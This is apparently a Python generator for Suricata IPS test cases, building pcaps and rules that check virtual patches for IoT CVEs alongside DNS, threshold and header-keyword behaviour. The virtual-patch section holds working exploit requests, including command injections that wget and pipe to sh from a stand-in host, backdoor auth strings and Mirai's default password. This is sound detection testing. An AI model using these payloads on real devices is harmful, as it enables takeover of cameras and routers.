# An attacker outside (203.0.113.0/24) and one infected LAN device
# (192.0.2.66) attack a device in HOME_NET (192.0.2.0/24).

SHIPPED_RULES = os.path.join(os.path.dirname(HERE), "..", "..", "signatures", "virtual-patches.rules")
# The TBK DVR patch ships by feed only (the lab demo shows it arriving).
FEED_DEMO_RULES = os.path.join(os.path.dirname(SHIPPED_RULES), "feed-demo", "tbk-dvr.rules")
ATTACKER, LAN_BOT, DEVICE = "203.0.113.7", "192.0.2.66", "192.0.2.21"
OK_RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def _shipped_rules(*sids: int) -> str:
    wanted = {f"sid:{sid};" for sid in sids}
    lines = []
    for path in (SHIPPED_RULES, FEED_DEMO_RULES):
        with open(path) as handle:
            lines += [line for line in handle
                      if line.startswith(("alert", "drop")) and any(w in line for w in wanted)]
    assert len(lines) == len(sids), sids
    return "".join(lines)


def _request(method: str, target: str, body: bytes = b"", headers: bytes = b"") -> bytes:
    head = (f"{method} {target} HTTP/1.1\r\nHost: device\r\n".encode() + headers)
    if body:
        head += b"Content-Type: application/x-www-form-urlencoded\r\n"
        head += f"Content-Length: {len(body)}\r\n".encode()
    return head + b"\r\n" + body


def _vpatch_case(name: str, sids: tuple[int, ...], attacks: list[bytes], benign: list[bytes],
                 expected: dict[int, int], note: str, dport: int = 80) -> None:
    """One connection per request: a drop ends its flow, so a benign request
    after an exploit on the same connection would prove nothing."""
    frames = []
    for index, request in enumerate(attacks + benign):
        client = LAN_BOT if index == 1 and len(attacks) > 1 else ATTACKER
        if index >= len(attacks):
            client = "192.0.2.30"           # the owner's phone on the LAN
        frames += _tcp_session([(True, request), (False, OK_RESPONSE)], sport=41000 + index,
                               start=index * 2.0, client=client, dport=dport, server=DEVICE)
    _write(name, frames, _shipped_rules(*sids), expected, note, blocked=expected)


def virtual_patch_cases() -> None:
    xml = b'<?xml version="1.0" encoding="UTF-8"?>'
    _vpatch_case(
        "vpatch-hikvision-cve-2021-36260", (9100100,),
        [_request("PUT", "/SDK/webLanguage", xml + b"<language>$(id>webLib/x)</language>"),
         _request("PUT", "/SDK/webLanguage", xml + b"<language>`wget http://203.0.113.9/h -O-|sh`</language>"),
         _request("PUT", "/SDK/webLanguage", xml + b'<Language lang="x">&#36;(id)</Language>')],
        [_request("GET", "/SDK/webLanguage"),
         _request("PUT", "/SDK/webLanguage", xml + b"<language>English</language>")],
        {9100100: 3}, "Hikvision webLanguage: $( and backticks in <language> drop; a GET and a real language pass")
    _vpatch_case(
        "vpatch-hikvision-cve-2017-7921", (9100101,),
        [_request("GET", "/Security/users?auth=YWRtaW46MTEK"),
         _request("GET", "/onvif-http/snapshot?auth=YWRtaW46MTEK%0a"),
         _request("GET", "/System/configurationFile?%61uth=YWRtaW46MTE="),
         _request("GET", "/Security/users?auth=c3VwcG9ydDoxMQ==")],
        [_request("GET", "/onvif-http/snapshot"),
         _request("GET", "/ISAPI/System/deviceInfo?auth=dXNlcjpzZWNyZXQ="),
         _request("GET", "/Security/users?auth=YWRtaW46MTEx")],
        {9100101: 4}, "Hikvision auth bypass: any user with the backdoor password 11, however "
        "encoded, drops; real credentials and password 111 pass")
    _vpatch_case(
        "vpatch-avtech-cve-2024-7029", (9100102, 9100103),
        [_request("POST", "/cgi-bin/supervisor/Factory.cgi",
                  b"action=white_led&brightness=$(cd /tmp;wget http://203.0.113.9/a -O-|sh) #"),
         _request("POST", "/cgi-bin/supervisor/Factory.cgi",
                  b"action=white_led&brightness=%24%28id%29"),
         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=5%26id"),
         _request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&bright%6eess=$(id)"),
         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led;%62rightness=5%26id")],
        [_request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&brightness=50"),
         _request("GET", "/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=100"),
         _request("POST", "/cgi-bin/supervisor/Factory.cgi", b"action=white_led&bright%6eess=50")],
        {9100102: 3, 9100103: 2},
        "AVTECH Factory.cgi: a non-numeric brightness drops, its name or value plain or "
        "encoded; numbers pass", dport=88)
    _vpatch_case(
        "vpatch-tplink-cve-2023-1389", (9100104, 9100105),
        [_request("POST", "/cgi-bin/luci/;stok=/locale?form=country",
                  b"operation=write&country=$(id>`wget http://203.0.113.9/t -O-|sh`)"),
         _request("POST", "/cgi-bin/luci/;stok=/locale?form=country", b"operation=write&country=%24%28id%29"),
         _request("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://203.0.113.9/t)")],
        [_request("POST", "/cgi-bin/luci/;stok=0123abcd/locale?form=country", b"operation=read"),
         _request("POST", "/cgi-bin/luci/;stok=0123abcd/locale?form=country", b"operation=write&country=DE")],
        {9100104: 2, 9100105: 1},
        "TP-Link locale: a country that is not a country code drops (body or query); read and DE pass",
        dport=8080)
    _vpatch_case(
        "vpatch-gpon-cve-2018-10561-10562", (9100106, 9100107, 9100112),
        [_request("POST", "/GponForm/diag_Form?images/",
                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0"),
         _request("POST", "/GponForm/diag_Form?images/",
                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%3bid&ipv=0"),
         _request("GET", "/GponForm/diag_Form?XWebPageName=diag&diag_action=ping&dest%5fhost=;id&ipv=0")],
        [_request("POST", "/GponForm/diag_Form",
                  b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=198.51.100.1&ipv=0"),
         _request("GET", "/images/logo.gif")],
        {9100106: 2, 9100107: 2, 9100112: 1},
        "GPON ONT: ?images/ bypass and a non-host dest_host (body or query) drop; "
        "an authenticated ping passes")
    _vpatch_case(
        "vpatch-tbk-cve-2024-3721", (9100040,),
        [_request("POST", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Ft.sh",
                  headers=b"Cookie: uid=1\r\n"),
         _request("GET", "/device.rsp?opt=sys&cmd=%5F%5F%5FS_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id",
                  headers=b"Cookie: uid=1\r\n"),
         _request("GET", "/device.rsp?opt=sys;cmd=___S_O_S_T_R_E_A_MAX___;mdb=sos;%6ddc=id",
                  headers=b"Cookie: uid=1\r\n")],
        [_request("GET", "/device.rsp?opt=user&cmd=list"),
         _request("GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos")],
        {9100040: 3}, "TBK DVR: the SOS debug command with an mdc command (after & or ;, its "
        "name escaped or not) drops; other device.rsp calls pass")
    _vpatch_case(
        "vpatch-zyxel-cve-2017-18368", (9100109, 9100113),
        [_request("POST", "/cgi-bin/ViewLog.asp",
                  b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
                  b"&remote_host=%3bcd+/tmp;wget+http://203.0.113.9/z;sh+z%3b%23&remoteSubmit=Save"),
         _request("POST", "/cgi-bin/ViewLog.asp", b"remote_host=198.51.100.5|id&remoteSubmit=Save"),
         _request("POST", "/cgi-bin/ViewLog.asp", b"LogFlag=0;remote%5Fhost=198.51.100.5%26id"),
         _request("GET", "/cgi-bin/ViewLog.asp?remote_host=%3bid&remoteSubmit=Save")],
        [_request("POST", "/cgi-bin/ViewLog.asp",
                  b"remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
                  b"&remote_host=198.51.100.5&remoteSubmit=Save"),
         _request("GET", "/cgi-bin/ViewLog.asp")],
        {9100109: 3, 9100113: 1},
        "Zyxel ViewLog.asp: a remote_host that is not a host (body or query) drops; a syslog server passes")
    _vpatch_case(
        "vpatch-dlink-nas-cve-2024-3273", (9100110,),
        [_request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="),
         _request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&%73ystem=aWQ=")],
        [_request("GET", "/cgi-bin/nas_sharing.cgi?user=admin&passwd=c2VjcmV0&cmd=15"),
         _request("GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15")],
        {9100110: 2}, "D-Link NAS: messagebus with a system command drops; a normal share listing passes")
    _vpatch_case(
        "vpatch-netgear-cve-2016-6277", (9100111,),
        [_request("GET", "/cgi-bin/;cd${IFS}/var/tmp;wget${IFS}http://203.0.113.9/n;sh${IFS}n"),
         _request("GET", "/cgi-bin/%3bid"),
         _request("GET", "/cgi-bin/%0aid")],
        [_request("GET", "/cgi-bin/luci/;stok=0123abcd/admin/status"),
         _request("GET", "/cgi-bin/genie.cgi?t=1")],
        {9100111: 3}, "Netgear: a shell metacharacter right after /cgi-bin/ drops; CGI paths pass")


def mirai_telnet_case() -> None:
    """Mirai's password typed the way a telnet server still reads it: with
    telnet commands inside it, or edited with a backspace. The raw rules see
    "xc\\xff\\xf13511"; the parsed twins see what login sees."""
    sessions = [b"xc3511\r\n", b"xc\xff\xf13511\r\n", b"xc3\xff\xfd\x01511\r\n",
                b"xc35X\x7f11\r\n", b"hunter2\r\n"]
    frames = []
    for index, password in enumerate(sessions + [None]):
        typed = ([(True, bytes([c])) for c in b"xc3511\r\n"] if password is None
                 else [(True, password)])
        frames += _tcp_session([(False, b"\xff\xfd\x01login: "), (True, b"root\r\n"),
                                (False, b"Password: "), *typed, (False, b"# ")],
                               sport=42000 + index, start=index * 2.0, client=ATTACKER,
                               dport=23, server=DEVICE)
    _write("vpatch-mirai-telnet-decoded", frames, _shipped_rules(9100001, 9100051),
           {9100001: 2, 9100051: 3},
           "Mirai's xc3511 with an IAC NOP or DO inside it or a backspace edit drops by the "
           "parsed twin; typed plainly or a character at a time the raw rule drops it; "
           "another password passes", blocked={9100001: 2, 9100051: 3})


def relative_keyword_cases() -> None:
    """Where a relative `isdataat` / `byte_*` reads, and its bounds, as in
    Suricata: after `uricontent` or `content; http_uri;` it reads the URI
    from the end of that content (not the payload from 0); relative, N bytes
    must remain (prev + N <= len); `isdataat:!1,relative` means "ends here"."""
    request = b"GET /set?len=6&name=admin&cmd=reboot_now HTTP/1.1\r\nHost: cam\r\n\r\n"
    rules = (
        'alert http any any -> any any (msg:"10 bytes after cmd= are not 11"; '
        'uricontent:"cmd="; isdataat:!11,relative; sid:2001; rev:1;)\n'
        'alert http any any -> any any (msg:"exactly 10 bytes remain"; '
        'content:"cmd="; http_uri; isdataat:10,relative; sid:2002; rev:1;)\n'
        'alert http any any -> any any (msg:"11 bytes do not remain"; '
        'content:"cmd="; http_uri; isdataat:11,relative; sid:2003; rev:1;)\n'
        'alert http any any -> any any (msg:"extracted distance in the URI"; '
        'uricontent:"len="; byte_extract:1,0,skip,relative,string,dec; '
        'uricontent:"admin"; distance:skip; within:5; sid:2004; rev:1;)\n'
        'alert http any any -> any any (msg:"byte_test reads the URI"; '
        'content:"len="; http_uri; byte_test:1,=,6,0,relative,string,dec; sid:2005; rev:1;)\n'
        'alert tcp any any -> any 80 (msg:"request ends with the blank line"; '
        'content:"|0d 0a 0d 0a|"; isdataat:!1,relative; sid:2006; rev:1;)\n'
        'alert tcp any any -> any 80 (msg:"one byte after the last n is not the end"; '
        'content:"cam|0d 0a 0d|"; isdataat:!1,relative; sid:2007; rev:1;)\n')
    _write("relative-keywords-legacy-buffers", _tcp_session([(True, request)]), rules,
           {2001: 1, 2002: 1, 2003: 0, 2004: 1, 2005: 1, 2006: 1, 2007: 0},
           "relative isdataat/byte_* follow the previous content into the URI; "
           "relative isdataat needs N bytes left, !1 means ends-with")


def dns_keyword_cases() -> None:
    """dns.opcode / dns.rcode (numbers and names), the Z-flag event, query
    and answer names in both directions, and dns.query on requests only."""
    from scapy.layers.dns import DNS, DNSQR, DNSRR

    def datagram(to_server: bool, dns, index: int):
        src, dst = (CLIENT, SERVER) if to_server else (SERVER, CLIENT)
        sport, dport = (5353 + 30000, 53) if to_server else (53, 5353 + 30000)
        src_mac, dst_mac = (CLIENT_MAC, SERVER_MAC) if to_server else (SERVER_MAC, CLIENT_MAC)
        frame = Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=dst) / UDP(sport=sport, dport=dport) / dns
        frame.time = 1700000000 + index * 0.01
        return frame

    frames = [
        datagram(True, DNS(id=1, rd=1, z=1, qd=DNSQR(qname="cam.example.com")), 0),
        datagram(False, DNS(id=1, qr=1, rcode=3, qd=DNSQR(qname="cam.example.com")), 1),
        datagram(True, DNS(id=2, rd=1, qd=DNSQR(qname="printer.example.net")), 2),
        datagram(False, DNS(id=2, qr=1, qd=DNSQR(qname="printer.example.net"),
                            an=DNSRR(rrname="printer.example.net", rdata="192.0.2.50")), 3),
    ]
    rules = (
        'alert dns any any -> any any (msg:"standard queries"; flow:to_server; dns.opcode:0; '
        'sid:3001; rev:1;)\n'
        'alert dns any any -> any any (msg:"NXDOMAIN by number"; dns.rcode:3; sid:3002; rev:1;)\n'
        'alert dns any any -> any any (msg:"NXDOMAIN by name"; dns.rcode:nxdomain; sid:3003; rev:1;)\n'
        'alert dns any any -> any any (msg:"answered"; flow:to_client; dns.rcode:!3; '
        'sid:3004; rev:1;)\n'
        'alert dns any any -> any any (msg:"Z flag"; app-layer-event:dns.z_flag_set; '
        'sid:3005; rev:1;)\n'
        'alert dns any any -> any any (msg:"dns.query is the request only"; flow:to_client; '
        'dns.query; content:"cam"; sid:3006; rev:1;)\n'
        'alert dns any any -> any any (msg:"query name in the response"; flow:to_client; '
        'dns.queries.rrname; content:"cam."; sid:3007; rev:1;)\n'
        'alert dns any any -> any any (msg:"answer name"; dns.answer.name; content:"printer"; '
        'sid:3008; rev:1;)\n')
    _write("dns-header-keywords", frames, rules,
           {3001: 2, 3002: 1, 3003: 1, 3004: 1, 3005: 1, 3006: 0, 3007: 1, 3008: 1},
           "dns.opcode/dns.rcode, the Z-flag event, query and answer names; "
           "dns.query is not inspected on responses")


def simultaneous_open_case() -> None:
    """A TCP simultaneous open (SYN, SYN, SYN/ACK from the client, ACK from
    the server: Suricata's 4-way handshake) establishes the flow, so rules
    with flow:established see the request sent over it."""
    def seg(to_server: bool, flags: str, seq: int, ack: int = 0, data: bytes = b""):
        src, dst, sport, dport = (CLIENT, SERVER, 40001, 80) if to_server else (SERVER, CLIENT, 80, 40001)
        macs = (CLIENT_MAC, SERVER_MAC) if to_server else (SERVER_MAC, CLIENT_MAC)
        frame = Ether(src=macs[0], dst=macs[1]) / IP(src=src, dst=dst) / TCP(
            sport=sport, dport=dport, flags=flags, seq=seq, ack=ack)
        return frame / Raw(data) if data else frame

    request = b"GET /admin/cmd.cgi?x=1 HTTP/1.1\r\nHost: cam\r\n\r\n"
    frames = [seg(True, "S", 1000), seg(False, "S", 5000), seg(True, "SA", 1000, 5001),
              seg(False, "A", 5001, 1001), seg(True, "PA", 1001, 5001, request),
              seg(False, "A", 5001, 1001 + len(request))]
    _stamp(frames)
    _write("tcp-simultaneous-open", frames,
           'alert http any any -> any any (msg:"request over a simultaneous open"; '
           'flow:established,to_server; http.uri; content:"/admin/cmd.cgi"; sid:4001; rev:1;)\n'
           'alert tcp any any -> any 80 (msg:"raw, established"; flow:established,to_server; '
           'content:"GET /admin"; sid:4002; rev:1;)\n',
           {4001: 1, 4002: 1},
           "a 4-way handshake establishes the flow, as in Suricata (no evasion by simultaneous open)")


def _write_tuned(name: str, frames: list, rules: str, threshold: str,
                 checks: list[tuple[int, dict]], note: str, *, args: tuple[str, ...] = (),
                 suricata_yaml: str | None = None) -> None:
    """A case with a threshold.config, named by `args` as suricata-verify's
    threshold-config cases name it, or by the case's suricata.yaml.
    `checks`: (count, match) filters on eve.json."""
    folder = os.path.join(HERE, name)
    os.makedirs(folder, exist_ok=True)
    wrpcap(os.path.join(folder, "input.pcap"), frames)
    with open(os.path.join(folder, "test.rules"), "w") as out:
        out.write(rules)
    with open(os.path.join(folder, "threshold.config"), "w") as out:
        out.write(threshold)
    if suricata_yaml is not None:
        with open(os.path.join(folder, "suricata.yaml"), "w") as out:
            out.write(suricata_yaml)
    lines = [f"# {line}" for line in note.split("\n")]
    if args:
        lines += ["args:"] + [f"  - {arg}" for arg in args]
    lines.append("checks:")
    for count, match in checks:
        lines += ["  - filter:", f"      count: {count}", "      match:"]
        lines += [f"        {key}: {value}" for key, value in match.items()]
    with open(os.path.join(folder, "test.yaml"), "w") as out:
        out.write("\n".join(lines) + "\n")


THRESHOLD_ARGS = ("--set threshold-file=${TEST_DIR}/threshold.config", "--simulate-ips")
GET = b"GET /index.html HTTP/1.1\r\nHost: cam.example\r\n\r\n"
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def _get_flows(clients: list[str]) -> list:
    """One HTTP GET (and its answer) per client address, a second apart."""
    frames = []
    for index, client in enumerate(clients):
        frames += _tcp_session([(True, GET), (False, OK)], sport=41000 + index,
                               start=float(index), client=client)
    return frames


def _udp(src: str, dst: str, when: float, payload: bytes = b"PING", dport: int = 9999):
    frame = (Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=src, dst=dst)
             / UDP(sport=5000, dport=dport) / Raw(payload))
    frame.time = 1700000000 + when
    return frame


def _alerts(sid: int, **fields) -> dict:
    return {"event_type": "alert", "alert.signature_id": sid, **fields}


def threshold_config_cases() -> None:
    """threshold.config cases, each after one of suricata-verify's
    tests/threshold/threshold-config-* (whose pcaps are not here: these are
    built, and their counts follow from Suricata's documented semantics)."""
    other, third = "192.0.2.11", "203.0.113.5"
    get_rule = ('{action} http any any -> any any (msg:"GET request"; flow:to_server; '
                'http.method; content:"GET"; sid:1000001; rev:1;)\n')

    # Client 192.0.2.10 opens three flows, 203.0.113.5 one, in between.
    _write_tuned(
        "threshold-config-rate-filter-drop-hostsrc",
        _get_flows([CLIENT, third, CLIENT, CLIENT]), get_rule.format(action="alert"),
        "rate_filter gen_id 1, sig_id 1000001, track by_src, count 1, seconds 60, "
        "new_action drop, timeout 1000\n",
        [(4, _alerts(1000001)),
         # Each source's first GET keeps the rule's action (alert) ...
         (2, _alerts(1000001, **{"alert.action": "allowed"})),
         (1, _alerts(1000001, src_ip=third, **{"alert.action": "allowed"})),
         # ... from 192.0.2.10's second on (count 1 exceeded within 60 s)
         # the rate filter's drop applies, for its 1000 s timeout.
         (2, _alerts(1000001, src_ip=CLIENT, **{"alert.action": "blocked"})),
         (2, {"event_type": "flow", "flow.action": "drop"})],
        "Follows suricata-verify tests/threshold/threshold-config-rate-filter-drop-hostsrc:\n"
        "rate_filter by_src, count 1: a source's 2nd and later matches drop (alert.action\n"
        "blocked), its 1st and another source's 1st keep the rule's alert action.",
        args=THRESHOLD_ARGS)

    # 192.0.2.10 is suppressed; its GETs are dropped all the same.
    _write_tuned(
        "threshold-config-suppress-bysrc-ip",
        _get_flows([CLIENT, other, CLIENT, third]), get_rule.format(action="drop"),
        "suppress gen_id 1, sig_id 1000001, track by_src, ip 192.0.2.10\n",
        [(2, _alerts(1000001)),
         (0, _alerts(1000001, src_ip=CLIENT)),
         (2, _alerts(1000001, **{"alert.action": "blocked"})),
         (4, {"event_type": "flow", "flow.action": "drop"}),
         (2, {"event_type": "flow", "flow.action": "drop", "flow.alerted": "false",
              "src_ip": CLIENT})],
        "Follows suricata-verify tests/threshold/threshold-config-suppress-bysrc-ip:\n"
        "suppress by_src ip: no alert for 192.0.2.10's requests, yet the drop rule still\n"
        "drops them (suppress hides the alert, the action stands); other sources alert.",
        args=THRESHOLD_ARGS)

    # limit by_rule over six sources; limit by_flow over two TCP flows.
    pings = [_udp(f"192.0.2.{20 + index}", SERVER, float(index)) for index in range(6)]
    flows = (_tcp_session([(True, b"hello")], sport=42000, start=10.0)
             + _tcp_session([(True, b"hello")], sport=42001, start=11.0))
    _write_tuned(
        "threshold-config-limit",
        pings + flows,
        'alert udp any any -> any 9999 (msg:"ping"; content:"PING"; sid:1000001; rev:1;)\n'
        'alert tcp any any -> any any (msg:"empty segment"; dsize:0; sid:1000002; rev:1;)\n',
        "threshold gen_id 1, sig_id 1000001, type limit, track by_rule, count 3, seconds 1000\n"
        "threshold gen_id 1, sig_id 1000002, type limit, track by_flow, count 1, seconds 60\n",
        [(3, _alerts(1000001)), (2, _alerts(1000002))],
        "Follows suricata-verify tests/threshold-config-byrule (limit by_rule, count 3:\n"
        "3 of the 6 pings alert) and tests/threshold/threshold-config-threshold-limit-flow\n"
        "(limit by_flow, count 1, dsize:0: one alert per TCP flow, two flows).",
        args=THRESHOLD_ARGS)

    # type both replaces a rule's own limit; gen_id 0 / sig_id 0 applies
    # only to a rule without a threshold of its own.
    times = [(CLIENT, 0), (CLIENT, 1), (CLIENT, 2), (CLIENT, 3), (other, 4), (CLIENT, 70),
             (CLIENT, 71)]
    _write_tuned(
        "threshold-config-both-override",
        [_udp(src, SERVER, float(when)) for src, when in times],
        'alert udp any any -> any 9999 (msg:"own limit, replaced"; content:"PING"; '
        'threshold:type limit, track by_src, count 1, seconds 60; sid:1000001; rev:1;)\n'
        'alert udp any any -> any 9999 (msg:"no threshold"; content:"PING"; sid:1000002; rev:1;)\n'
        'alert udp any any -> any 9999 (msg:"own threshold, kept"; content:"PING"; '
        'threshold:type threshold, track by_rule, count 3, seconds 1000; sid:1000003; rev:1;)\n',
        "# both, by source: one alert per 60 s, on the 2nd match\n"
        "event_filter gen_id 1, sig_id 1000001, type both, track by_src, count 2, seconds 60\n"
        "threshold gen_id 0, sig_id 0, type limit, track by_rule, count 1, seconds 1000\n",
        [(2, _alerts(1000001)), (0, _alerts(1000001, src_ip=other)),
         (1, _alerts(1000002)), (2, _alerts(1000003))],
        "Follows suricata-verify tests/threshold/threshold-config-threshold-both-flow, with\n"
        "global-thresholds' precedence: the event_filter for sid 1000001 replaces its own\n"
        "limit (192.0.2.10 alerts on its 2nd ping of each 60 s period: t=1 and t=71;\n"
        "192.0.2.11's single ping never); the all-rules line limits 1000002 to 1 and\n"
        "leaves 1000003's own threshold (every 3rd of 7: 2) alone.",
        args=THRESHOLD_ARGS)

    # The file named by the case's suricata.yaml, its ip a variable there.
    _write_tuned(
        "threshold-config-suppress-byeither-ipvar",
        [_udp(CLIENT, SERVER, 0.0), _udp("198.51.100.7", "203.0.113.9", 1.0),
         _udp(CLIENT, "203.0.113.9", 2.0)],
        'alert udp any any -> any 9999 (msg:"ping"; content:"PING"; sid:1000001; rev:1;)\n',
        "suppress gen_id 1, sig_id 1000001, track by_either, ip $SUPPRESS\n",
        [(1, _alerts(1000001)),
         (1, _alerts(1000001, src_ip=CLIENT, dest_ip="203.0.113.9"))],
        "Follows suricata-verify tests/threshold/threshold-config-suppress-byeither-ipvar:\n"
        "by_either suppresses a match whose source or destination is in $SUPPRESS\n"
        "(198.51.100.0/24, from the case's suricata.yaml, which also names the file).",
        suricata_yaml='%YAML 1.1\n---\nthreshold-file: threshold.config\n'
                      'vars:\n  address-groups:\n    SUPPRESS: "[198.51.100.0/24]"\n')
# Documentation hosts for the header buffer and byte_math cases.
HOST_A, HOST_B = "192.0.2.1", "198.51.100.1"
HOST_A6, HOST_B6 = "2001:db8::1", "2001:db8::2"


def _frame(*layers, vlan: int | None = None):
    """One Ethernet frame (optionally 802.1Q-tagged, as the upstream cases)
    from the given layers."""
    from scapy.all import Dot1Q
    frame = Ether(src=CLIENT_MAC, dst=SERVER_MAC)
    if vlan is not None:
        frame = frame / Dot1Q(vlan=vlan)
    for layer in layers:
        frame = frame / layer
    return frame


def header_buffer_cases() -> None:
    """ipv4.hdr, ipv6.hdr, tcp.hdr, udp.hdr, icmpv4.hdr, icmpv6.hdr: each
    upstream rule on the upstream packet, plus packets that must not match
    (another value, a packet without that header)."""
    from scapy.all import ICMP, ICMPv6EchoRequest, ICMPv6ND_NS, IPOption_RR, IPv6

    frames = _stamp([
        _frame(IP(src=HOST_A, dst=HOST_B), TCP(sport=1000, dport=80, flags="S",
                                               options=[("NOP", None), ("MSS", 8)]), vlan=6),
        _frame(IP(src=HOST_A, dst=HOST_B), TCP(sport=1001, dport=80, flags="S",
                                               options=[("NOP", None), ("MSS", 1460)]), vlan=6),
        _frame(IP(src=HOST_A, dst=HOST_B), UDP(sport=1002, dport=80),
               Raw(b"\x00" * 12 + b"\x02\x04\x00\x08")),
    ])
    _write("tcp-hdr-keyword", frames,
           'alert tcp any any -> any any (tcp.hdr; content:"|02 04|"; offset:20; '
           'byte_test:2,<,536,0,big,relative; sid:1234; rev:5;)\n'
           'alert ip any any -> any any (msg:"no tcp.hdr on UDP"; tcp.hdr; content:"|02 04|"; '
           'offset:20; byte_test:2,<,536,0,big,relative; sid:2; rev:1;)\n'
           'alert tcp any any -> any any (msg:"flags byte"; tcp.hdr; content:"|02|"; offset:13; '
           'depth:1; sid:3; rev:1;)\n'
           'alert tcp any any -> any any (msg:"NOP+MSS pad the header to 28"; tcp.hdr; bsize:<28; '
           'sid:4; rev:1;)\n'
           'alert tcp any any -> any any (msg:"MSS 1460 by pcre"; tcp.hdr; '
           'pcre:"/\\x02\\x04\\x05\\xb4/"; sid:5; rev:1;)\n',
           {1234: 1, 2: 1, 3: 2, 4: 0, 5: 1},
           "Follows OISF/suricata-verify tests/tcp-hdr-keyword (sid 1234 is its rule; its pcap,\n"
           "rebuilt with scapy on documentation addresses, VLAN 6 as upstream):\n"
           "1: TCP SYN 192.0.2.1:1000 -> 198.51.100.1:80, options NOP + MSS 8 (matches 1234)\n"
           "2: the same SYN from port 1001 with MSS 1460 (byte_test <536 fails)\n"
           "3: UDP 192.0.2.1:1002 -> :80 with MSS-like bytes 20 bytes into its transport\n"
           "   layer: it has no tcp.hdr, so the alert ip rule (sid 2) does not fire on it")

    frames = _stamp([
        _frame(IP(src=HOST_A, dst=HOST_B, id=0), UDP(sport=1000, dport=80), vlan=6),
        _frame(IP(src=HOST_A, dst=HOST_B, id=1), UDP(sport=1001, dport=80), vlan=6),
        _frame(IP(src=HOST_A, dst=HOST_B, id=0, options=[IPOption_RR()]), UDP(sport=1002, dport=80)),
        _frame(IPv6(src=HOST_A6, dst=HOST_B6), UDP(sport=1003, dport=80)),
    ])
    _write("ipv4-hdr-keyword", frames,
           'alert ip any any -> any any (ipv4.hdr; content:"|00 00|"; offset:4; depth:2; sid:1234;)\n'
           'alert ip any any -> any any (msg:"TOS 0, IPv4 only"; ipv4.hdr; content:"|00|"; offset:1; '
           'depth:1; sid:2; rev:1;)\n'
           'alert ip any any -> any any (msg:"options are in ipv4.hdr"; ipv4.hdr; bsize:>20; '
           'content:"|07|"; offset:20; depth:1; sid:3; rev:1;)\n'
           'alert ip any any -> any any (msg:"ipv6.hdr is 40 bytes"; ipv6.hdr; bsize:40; '
           'content:"|11|"; offset:6; depth:1; sid:4; rev:1;)\n'
           'alert ip any any -> any any (msg:"no ipv6.hdr on IPv4"; ipv6.hdr; content:"|45|"; '
           'depth:1; sid:5; rev:1;)\n',
           {1234: 2, 2: 3, 3: 1, 4: 1, 5: 0},
           "Follows OISF/suricata-verify tests/ipv4-hdr-keyword (sid 1234 is its rule; its pcap,\n"
           "rebuilt with scapy on documentation addresses):\n"
           "1: UDP 192.0.2.1 -> 198.51.100.1:80, IP id 0, VLAN 6 (matches 1234)\n"
           "2: the same with IP id 1 (does not)\n"
           "3: IP id 0 with the record-route option: a 24-byte ipv4.hdr (1234, 3)\n"
           "4: UDP over IPv6 2001:db8::1 -> ::2: ipv6.hdr only (4), whose byte 1 is 0 too (2 must\n"
           "   not count it)")

    frames = _stamp([
        _frame(IP(src=HOST_A, dst=HOST_B), UDP(sport=1000, dport=80), vlan=6),
        _frame(IP(src=HOST_A, dst=HOST_B), UDP(sport=1001, dport=80), Raw(b"data"), vlan=6),
        _frame(IP(src=HOST_A, dst=HOST_B), TCP(sport=1002, dport=80, flags="S", seq=0x00080000)),
    ])
    _write("udp-hdr-keyword", frames,
           'alert udp any any -> any any (udp.hdr; content:"|00 08|"; offset:4; depth:2; sid:1234;)\n'
           'alert ip any any -> any any (msg:"no udp.hdr on TCP"; udp.hdr; content:"|00 08|"; '
           'offset:4; depth:2; sid:2; rev:1;)\n'
           'alert udp any any -> any any (msg:"8 bytes, port 80"; udp.hdr; bsize:8; '
           'byte_test:2,=,80,2; sid:3; rev:1;)\n'
           'alert udp any any -> any any (msg:"nothing past the header"; udp.hdr; isdataat:8; '
           'sid:4; rev:1;)\n',
           {1234: 1, 2: 1, 3: 2, 4: 0},
           "Follows OISF/suricata-verify tests/udp-hdr-keyword (sid 1234 is its rule; its pcap,\n"
           "rebuilt with scapy on documentation addresses):\n"
           "1: UDP 192.0.2.1:1000 -> 198.51.100.1:80, no payload (length 8), VLAN 6 (matches 1234)\n"
           "2: UDP with 4 bytes of payload (length 12, does not)\n"
           "3: TCP SYN whose bytes 4-5 are 00 08 (sequence 0x00080000): no udp.hdr (sid 2)")

    frames = _stamp([
        _frame(IP(src=HOST_A, dst=HOST_B), ICMP(type=8, id=7, seq=9), Raw(b"ping")),
        _frame(IP(src=HOST_A, dst=HOST_B), ICMP(type=13, id=7, seq=10, ts_ori=1, ts_rx=2, ts_tx=3)),
        _frame(IPv6(src=HOST_A6, dst=HOST_B6), ICMPv6EchoRequest(id=7, seq=9), Raw(b"ping")),
        _frame(IPv6(src=HOST_A6, dst="ff02::1:ff00:2"), ICMPv6ND_NS(tgt=HOST_B6)),
    ])
    _write("icmp-hdr-keywords", frames,
           'alert icmp any any -> any any (msg:"echo seq 9"; icmpv4.hdr; content:"|08 00|"; depth:2; '
